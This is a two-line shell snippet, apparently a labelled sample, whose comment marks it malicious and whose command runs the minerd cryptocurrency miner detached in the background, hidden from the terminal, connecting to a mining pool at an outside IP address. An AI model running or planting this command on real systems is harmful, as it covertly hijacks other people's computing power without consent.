# Malicious: runs minerd (cpuminer) detached, hidden from the terminal.
nohup minerd -a cryptonight -o stratum+tcp://203.0.113.20:4444 -u worker -p x >/dev/null 2>&1 &
